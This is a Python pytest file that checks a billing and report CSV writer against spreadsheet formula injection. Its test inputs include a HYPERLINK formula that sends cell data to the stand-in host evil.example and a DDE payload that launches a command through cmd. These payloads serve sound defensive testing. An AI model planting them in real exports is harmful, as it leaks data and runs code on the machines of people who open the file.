"""The one CSV writer of every export (reports, invoices, ``csp billing export``):
safe to open in a spreadsheet (OWASP's CSV injection rules), numbers left as numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from uuid import UUID

import pytest

from csp.projections.query import csv_text


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(text: str):
    out = csv_text(("name",), [{"name": text}])
    assert rows_of(out)[1] == [f"'{text}"]


def test_numbers_stay_numbers_and_other_text_is_written_as_is():
    row = {
        "amount": Decimal("-1.42"),
        "quantity": -3,
        "name": "Contoso SRL",
        "change": "+1 Users",
        "id": UUID("00000000-0000-4000-8000-000000000001"),
        "at": datetime(2026, 1, 5, 9, 0, tzinfo=UTC),
        "none": None,
        "flag": True,
    }
    out = csv_text(tuple(row), [row])
    header, line = out.splitlines()
    assert header == "amount,quantity,name,change,id,at,none,flag"
    # numbers unquoted (a spreadsheet reads them as numbers, negative ones too); text quoted,
    # so that a separator of another locale (;) cannot start a cell inside it
    assert line == (
        '-1.42,-3,"Contoso SRL","\'+1 Users","00000000-0000-4000-8000-000000000001",'
        '"2026-01-05T09:00:00+00:00","","true"'
    )
    assert rows_of(out)[1][:3] == ["-1.42", "-3", "Contoso SRL"]


def test_a_formula_after_another_locales_separator_stays_inside_its_quoted_cell():
    out = csv_text(("name",), [{"name": "Acme;=1+1"}])
    assert out.splitlines()[1] == '"Acme;=1+1"'
